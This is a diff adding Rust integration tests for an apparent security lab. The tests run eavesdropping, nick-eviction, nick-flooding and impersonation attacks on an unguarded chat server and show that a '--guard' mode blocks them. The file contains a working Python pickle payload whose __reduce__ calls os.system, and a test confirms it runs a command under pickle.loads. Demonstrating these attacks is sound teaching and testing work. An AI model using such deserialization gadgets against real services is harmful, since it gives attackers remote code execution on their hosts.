@@ -1,0 +1,425 @@
+//! The lab's attacks on the plain chat, through the real binaries: each one
+//! succeeds against the original's trust model, and the denial of service
+//! fails against `--guard`.
+
+mod common;
+
+use std::io::Write;
+use std::path::PathBuf;
+use std::process::{Command, ExitStatus, Stdio};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Instant;
+
+use common::{Conn, PATIENCE, Proc, QUIET, Server, assert_ko, ok, run, wait_until};
+use serde_json::json;
+
+/// The nicks a guarded connection may hold (simple_server's
+/// MAX_NICKS_PER_CONNECTION, as PROTOCOL.md section 4 sets it).
+const MAX_NICKS: usize = 16;
+
+/// The Python original's view of the exploit: an object whose `__reduce__`
+/// calls `os.system(argv[1])`, pickled with the protocol of Python 3.8 to
+/// 3.13's `pickle.dumps` (explicit, so a newer default cannot change it).
+const PYTHON_PICKLE_DUMPS: &str = "
+import os, pickle, sys
+class Exploit:
+    def __reduce__(self):
+        return (os.system, (sys.argv[1],))
+sys.stdout.buffer.write(pickle.dumps(Exploit(), protocol=4))
+";
+
+/// What the Python original's server did with every request.
+const PYTHON_PICKLE_LOADS: &str = "import pickle,sys; pickle.loads(sys.stdin.buffer.read())";
+
+fn with_server(server: &Server, args: &[&str]) -> Vec<String> {
+    let mut all = server.client_args();
+    all.extend(args.iter().map(|a| a.to_string()));
+    all
+}
+
+fn dos(server: &Server, args: &[&str]) -> (ExitStatus, String, String) {
+    run(bin!("simple_dos"), &with_server(server, args))
+}
+
+fn exploit(server: &Server, args: &[&str]) -> (ExitStatus, String, String) {
+    run(bin!("simple_exploit"), &with_server(server, args))
+}
+
+/// A request connection on which `nick` has joined.
+fn joined(server: &Server, nick: &str) -> Conn {
+    let mut conn = server.request();
+    assert_eq!(conn.join(nick), ok());
+    conn
+}
+
+/// Has `speaker` say `nick`'s lines until `heard` gets one, and returns it.
+/// A broadcast connection is established before the server accepts it, so
+/// the first lines may go out before the listener is registered.
+fn say_until_heard(
+    speaker: &mut Conn,
+    nick: &str,
+    text: &str,
+    mut heard: impl FnMut() -> Option<String>,
+) -> String {
+    let deadline = Instant::now() + PATIENCE;
+    loop {
+        assert!(Instant::now() < deadline, "nothing was relayed");
+        assert_eq!(speaker.say(nick, text), ok());
+        if let Some(line) = heard() {
+            return line;
+        }
+    }
+}
+
+/// A path in the temp directory that no other test, or test run, uses.
+fn unique_path(what: &str) -> PathBuf {
+    static COUNTER: AtomicUsize = AtomicUsize::new(0);
+    let n = COUNTER.fetch_add(1, Ordering::Relaxed);
+    std::env::temp_dir().join(format!("{what}-{}-{n}", std::process::id()))
+}
+
+/// Starts big brother and waits until it overhears `speaker` (`nick`).
+fn bigbrother(server: &Server, speaker: &mut Conn, nick: &str) -> Proc {
+    let spy = Proc::spawn(bin!("simple_bigbrother"), &server.client_args(), &[]);
+    spy.stderr.wait_for("announcing it listens", |l| {
+        l.contains("listening to every conversation")
+    });
+    say_until_heard(speaker, nick, "warm-up", || spy.stdout.next(QUIET));
+    spy
+}
+
+#[test]
+fn bigbrother_prints_what_a_client_says_and_is_absent_from_list() {
+    let server = Server::plain(&[]);
+    let mut alice = joined(&server, "alice");
+    let spy = bigbrother(&server, &mut alice, "alice");
+
+    assert_eq!(alice.say("alice", "meet at noon"), ok());
+    spy.stdout.wait_for_line("alice : meet at noon");
+    let logged = spy.stderr.wait_for("logging the message", |l| {
+        l.ends_with("alice : meet at noon")
+    });
+    let stamp = logged.split_whitespace().next().unwrap_or_default();
+    assert!(
+        stamp.starts_with('[') && stamp.contains('T') && stamp.ends_with('Z'),
+        "no timestamp in {logged:?}"
+    );
+    assert_eq!(alice.list(), ["alice"]);
+}
+
+#[test]
+fn bigbrother_prints_an_encrypted_message_as_its_salt_and_token() {
+    let server = Server::plain(&[]);
+    let mut bob = joined(&server, "bob");
+    let spy = bigbrother(&server, &mut bob, "bob");
+
+    let sealed = json!({"salt": "c2FsdHNhbHRzYWx0c2FsdA==", "token": "gAAAAABm"});
+    let frame = json!({"type": "message", "nick": "bob", "message": sealed});
+    assert_eq!(bob.send_json(&frame), ok());
+    spy.stdout
+        .wait_for_line(r#"bob : {"salt":"c2FsdHNhbHRzYWx0c2FsdA==","token":"gAAAAABm"}"#);
+}
+
+#[test]
+fn bigbrother_exits_non_zero_when_the_server_goes_away() {
+    let mut server = Server::plain(&[]);
+    let mut carol = joined(&server, "carol");
+    let mut spy = bigbrother(&server, &mut carol, "carol");
+
+    server.kill();
+    assert!(!spy.wait().success());
+    spy.stderr.wait_for("saying the server is gone", |l| {
+        l.contains("connection to server lost")
+    });
+}
+
+#[test]
+fn evict_makes_the_victims_next_message_refused_on_a_plain_server() {
+    let server = Server::plain(&[]);
+    let mut victim = joined(&server, "bob");
+
+    let (status, stdout, stderr) = dos(&server, &["--evict", "bob"]);
+    assert!(status.success(), "{stdout}{stderr}");
+    assert!(
+        stdout.starts_with("evict 'bob': server answered ok"),
+        "{stdout}"
+    );
+    assert_eq!(stdout.lines().count(), 1, "{stdout}");
+    assert_ko(&victim.say("bob", "anyone there?"), "not joined");
+    assert!(victim.list().is_empty());
+}
+
+#[test]
+fn evict_of_a_nick_that_is_not_joined_fails() {
+    let server = Server::plain(&[]);
+    let (status, stdout, _) = dos(&server, &["--evict", "nobody"]);
+    assert_eq!(status.code(), Some(1), "{stdout}");
+    assert!(
+        stdout.contains("server answered ko: nick 'nobody' is not joined"),
+        "{stdout}"
+    );
+}
+
+#[test]
+fn evict_has_no_effect_with_guard() {
+    let server = Server::plain(&["--guard"]);
+    let mut victim = joined(&server, "bob");
+
+    let (status, stdout, _) = dos(&server, &["--evict", "bob"]);
+    assert_eq!(status.code(), Some(1), "{stdout}");
+    assert!(
+        stdout.contains("server answered ko: nick 'bob' belongs to another connection"),
+        "{stdout}"
+    );
+    assert_eq!(victim.say("bob", "still here"), ok());
+    assert_eq!(victim.list(), ["bob"]);
+}
+
+#[test]
+fn a_foreign_connection_speaks_as_the_victim_on_a_plain_server() {
+    let server = Server::plain(&[]);
+    joined(&server, "bob");
+    let mut sub = server.subscribe();
+    let mut mallory = server.request();
+    let relayed = say_until_heard(&mut mallory, "bob", "I quit", || sub.try_next_line(QUIET));
+    let relayed: serde_json::Value = serde_json::from_str(&relayed).unwrap();
+    assert_eq!(relayed["nick"], "bob");
+    assert_eq!(relayed["message"], "I quit");
+}
+
+#[test]
+fn with_guard_a_foreign_connection_cannot_speak_or_leave_as_the_victim() {
+    let server = Server::plain(&["--guard"]);
+    let mut victim = joined(&server, "bob");
+    let mut mallory = server.request();
+
+    assert_ko(
+        &mallory.say("bob", "I quit"),
+        "belongs to another connection",
+    );
+    assert_ko(&mallory.leave("bob"), "belongs to another connection");
+    assert_eq!(victim.say("bob", "I stay"), ok());
+    assert_eq!(victim.leave("bob"), ok());
+}
+
+#[test]
+fn with_guard_the_17th_nick_of_one_connection_is_refused() {
+    let server = Server::plain(&["--guard"]);
+    let mut hoarder = server.request();
+    for i in 0..MAX_NICKS {
+        assert_eq!(hoarder.join(&format!("ghost{i}")), ok());
+    }
+    assert_ko(&hoarder.join("ghost16"), "already holds 16 nicks");
+    joined(&server, "ghost16");
+}
+
+#[test]
+fn with_guard_a_closed_connections_nicks_are_freed() {
+    let server = Server::plain(&["--guard"]);
+    let mut observer = server.request();
+    let carol = joined(&server, "carol");
+    assert_eq!(observer.list(), ["carol"]);
+
+    drop(carol);
+    wait_until("carol's nick is freed", || observer.list().is_empty());
+    assert_eq!(observer.join("carol"), ok());
+}
+
+#[test]
+fn flood_leaves_n_more_nicks_on_a_plain_server() {
+    let server = Server::plain(&[]);
+    let mut alice = joined(&server, "alice");
+    let flood = 2 * MAX_NICKS;
+
+    let (status, stdout, stderr) = dos(&server, &["--flood", &flood.to_string()]);
+    assert!(status.success(), "{stdout}{stderr}");
+    assert_eq!(
+        stdout.trim_end(),
+        format!("flood: {flood}/{flood} nicks joined")
+    );
+    let nicks = alice.list();
+    assert_eq!(nicks.len(), 1 + flood, "{nicks:?}");
+    assert_eq!(nicks[0], "alice");
+    assert!(
+        nicks[1..].iter().all(|n| n.split('_').count() == 3),
+        "{nicks:?}"
+    );
+}
+
+#[test]
+fn flood_stops_at_16_nicks_with_guard_and_they_are_freed_when_it_exits() {
+    let server = Server::plain(&["--guard"]);
+    let mut observer = server.request();
+
+    let (status, stdout, _) = dos(&server, &["--flood", "20"]);
+    assert_eq!(status.code(), Some(1), "{stdout}");
+    assert_eq!(
+        stdout.trim_end(),
+        "flood: 16/20 nicks joined; server answered ko: this connection already holds 16 nicks"
+    );
+    wait_until("the flood's nicks are freed", || observer.list().is_empty());
+}
+
+#[test]
+fn dos_takes_exactly_one_attack() {
+    let server = Server::plain(&[]);
+    let (neither, _, stderr) = dos(&server, &[]);
+    assert_eq!(neither.code(), Some(2), "{stderr}");
+    let (both, _, stderr) = dos(&server, &["--evict", "bob", "--flood", "3"]);
+    assert_eq!(both.code(), Some(2), "{stderr}");
+    let (zero, _, stderr) = dos(&server, &["--flood", "0"]);
+    assert_eq!(zero.code(), Some(2), "{stderr}");
+}
+
+#[test]
+fn exploit_leaves_the_server_alive_serving_and_runs_nothing() {
+    for mode in [&[][..], &["--guard"][..]] {
+        let mut server = Server::plain(mode);
+        let proof = unique_path("unsecured-chat-pwned");
+        let command = format!("touch '{}'", proof.display());
+
+        let (status, stdout, stderr) = exploit(&server, &["--command", &command]);
+        assert!(status.success(), "{mode:?}: {stdout}{stderr}");
+        let lines: Vec<&str> = stdout.lines().collect();
+        assert!(
+            lines[0].starts_with("pickle __reduce__ -> os.system("),
+            "{stdout}"
+        );
+        assert!(lines[0].contains("invalid UTF-8 at byte 0"), "{stdout}");
+        assert!(
+            !stdout.contains(r#"{"response":"ok"}"#),
+            "a payload was accepted: {stdout}"
+        );
+        assert!(
+            stdout.contains("closing the connection\"} | connection closed by the server"),
+            "{stdout}"
+        );
+        assert!(stdout.contains("legitimate client: served"), "{stdout}");
+        assert!(stdout.contains("why not here"), "{stdout}");
+
+        assert!(server.is_alive());
+        let mut fresh = server.request();
+        assert_eq!(fresh.join("alice"), ok());
+        assert_eq!(fresh.list(), ["alice"]);
+        assert!(!proof.exists(), "{mode:?}: the command ran");
+    }
+}
+
+#[test]
+fn exploit_answers_every_line_of_a_pickle_that_holds_newlines() {
+    let server = Server::plain(&[]);
+    // A 10-byte command: its length byte is `\n`, so the pickle is two lines.
+    let (status, stdout, _) = exploit(&server, &["--command", "touch /a/b"]);
+    assert!(status.success(), "{stdout}");
+    let pickle = stdout.lines().next().unwrap_or_default();
+    assert_eq!(pickle.matches(r#"{"response":"ko""#).count(), 2, "{pickle}");
+}
+
+#[test]
+fn the_tools_fail_in_one_line_when_no_server_answers() {
+    let mut server = Server::plain(&[]);
+    let args = server.client_args();
+    server.kill();
+    let tools = [
+        (bin!("simple_bigbrother"), vec![]),
+        (bin!("simple_dos"), vec!["--evict", "bob"]),
+        (bin!("simple_exploit"), vec![]),
+    ];
+    for (tool, extra) in tools {
+        let mut all = args.clone();
+        all.extend(extra.iter().map(|a| a.to_string()));
+        let (status, stdout, stderr) = run(tool.clone(), &all);
+        assert_eq!(status.code(), Some(1), "{tool:?}: {stderr}");
+        assert!(stdout.is_empty(), "{tool:?}: {stdout}");
+        assert!(
+            stderr.starts_with("error: cannot reach server"),
+            "{tool:?}: {stderr}"
+        );
+        assert_eq!(stderr.lines().count(), 1, "{tool:?}: {stderr}");
+    }
+}
+
+#[test]
+fn each_attack_explains_itself_in_help() {
+    let expected = [
+        (
+            bin!("simple_bigbrother"),
+            ["never joins", "broadcast port", "--guard"],
+        ),
+        (bin!("simple_dos"), ["trust model", "--evict", "--guard"]),
+        (
+            bin!("simple_exploit"),
+            ["__reduce__", "executes nothing", "--dump"],
+        ),
+    ];
+    for (tool, needles) in expected {
+        let (status, help, _) = run(tool.clone(), &["--help".to_owned()]);
+        assert!(status.success(), "{tool:?}");
+        for needle in needles {
+            assert!(
+                help.contains(needle),
+                "{tool:?} --help lacks {needle:?}:\n{help}"
+            );
+        }
+        let (status, version, _) = run(tool.clone(), &["--version".to_owned()]);
+        assert!(
+            status.success() && version.contains(env!("CARGO_PKG_VERSION")),
+            "{tool:?}"
+        );
+    }
+}
+
+/// Whether python3 is here to play the Python original; says so if not.
+fn python3_available() -> bool {
+    let found = Command::new("python3")
+        .arg("--version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !found {
+        eprintln!("python3 not found: skipping the comparison with the Python original");
+    }
+    found
+}
+
+/// The stdout of a command that must succeed.
+fn stdout_of(command: &mut Command) -> Vec<u8> {
+    let output = command.output().unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{command:?}: {stderr}");
+    output.stdout
+}
+
+/// `simple_exploit --dump --command CMD`: the raw pickle.
+fn dumped_pickle(command: &str) -> Vec<u8> {
+    stdout_of(Command::new(bin!("simple_exploit")).args(["--dump", "--command", command]))
+}
+
+#[test]
+fn the_dumped_payload_is_what_python_pickles() {
+    if !python3_available() {
+        return;
+    }
+    let long = format!("echo {}", "x".repeat(300));
+    for command in ["touch /tmp/x", "touch /a/b", "echo héllo ✓", long.as_str()] {
+        let python = stdout_of(Command::new("python3").args(["-c", PYTHON_PICKLE_DUMPS, command]));
+        assert_eq!(dumped_pickle(command), python, "command {command:?}");
+    }
+}
+
+#[test]
+fn the_payload_that_does_nothing_to_our_server_runs_code_in_python() {
+    if !python3_available() {
+        return;
+    }
+    let proof = unique_path("unsecured-chat-pwned-by-python");
+    let payload = dumped_pickle(&format!("touch '{}'", proof.display()));
+    let mut python = Command::new("python3")
+        .args(["-c", PYTHON_PICKLE_LOADS])
+        .stdin(Stdio::piped())
+        .spawn()
+        .unwrap();
+    python.stdin.take().unwrap().write_all(&payload).unwrap();
+    assert!(python.wait().unwrap().success());
+    assert!(proof.exists(), "pickle.loads did not run the command");
+    std::fs::remove_file(&proof).unwrap();
+}
